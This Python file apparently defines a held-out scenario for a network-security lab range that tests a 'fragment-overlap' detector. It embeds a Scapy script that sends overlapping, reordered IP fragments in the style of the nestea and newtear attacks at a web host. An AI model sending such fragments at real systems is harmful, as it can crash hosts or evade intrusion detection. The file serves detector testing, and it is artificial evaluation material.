"""nestea and newtear turned round: the last fragment comes first, and the middle one lies over it."""

from lab.range import Range
from lab.scenario import Scenario

PROGRAM = """
target = sys.argv[1]
for number in range(3):
    head = TCP(sport=47000 + number, dport=80, flags="PA", seq=7, ack=9)
    segment = bytes(head / Raw(b"GET /a HTTP/1.0" * 4))
    base = dict(dst=target, id=3000 + number, proto=6)
    send(IP(**base, frag=6) / Raw(segment[48:]))
    send(IP(**base, frag=4, flags="MF") / Raw(b"Z" * 24))
    send(IP(**base, frag=0, flags="MF") / Raw(segment[:40]))
    time.sleep(3)
"""


def run(net: Range) -> None:
    attacker, web = net.outside("attacker"), net.web()
    net.everyday()
    net.loop(net.inside("pc1"), f"ping -n -q -c 1 -W 1 -s 3000 {web.ip}", 0.8)
    with net.attack(
        "fragment-overlap",
        by=attacker,
        victims=[web],
        frames=f"ip dst host {web.ip} and ip[6:2] & 0x3fff != 0",
        responses=f"tcp and src host {web.ip} and dst host {attacker.ip}",
    ):
        net.scapy(attacker, PROGRAM, web.ip)
    net.quiet(2)


SCENARIO = Scenario(
    name="fragment-overlap-held-reversed",
    about="Three segments from outside in overlapping fragments, the last one first, one in three seconds.",
    detectors=("fragment-overlap",),
    held_out=True,
    run=run,
)
